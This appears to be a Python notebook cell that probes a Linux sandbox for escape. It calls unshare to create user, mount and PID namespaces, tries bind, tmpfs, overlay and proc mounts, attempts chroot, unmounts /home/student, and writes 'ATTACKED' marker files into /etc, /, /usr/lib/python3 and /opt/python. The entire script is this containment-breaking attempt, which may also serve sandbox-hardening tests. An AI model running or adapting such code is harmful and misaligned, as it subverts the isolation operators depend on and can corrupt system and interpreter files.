# %% first
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("/tmp/here", exist_ok=True)
new_user, new_mounts, new_processes = 0x10000000, 0x20000, 0x20000000
for flags in (new_user, new_user | new_mounts, new_mounts, new_processes):
    print("unshare", libc.unshare(flags), ctypes.get_errno())
for kind, source, target, flags in (
    (b"proc", b"proc", b"/proc", 0),
    (b"proc", b"proc", b"/tmp/here", 0),
    (None, b"/", b"/tmp/here", 4096 | 16384),
    (b"tmpfs", b"tmpfs", b"/usr/lib", 0),
    (b"overlay", b"overlay", b"/tmp/here", 0),
    (None, b"none", b"/", 32 | 4096),
):
    print("mount", libc.mount(source, target, kind, flags, None), ctypes.get_errno())
for call, name in ((libc.chroot, "chroot"), (libc.umount2, "umount")):
    print(name, call(b"/tmp", 0), ctypes.get_errno())
print("remount", libc.umount2(b"/home/student", 2), ctypes.get_errno(), os.listdir("/proc"), os.listdir("/tmp/here"))
for path in ("/opt/python", "/usr/lib/python3", "/etc", "/"):
    try:
        open(f"{path}/ATTACKED", "w").close()
        print("written:", path)
    except OSError as error:
        print(path, type(error).__name__)
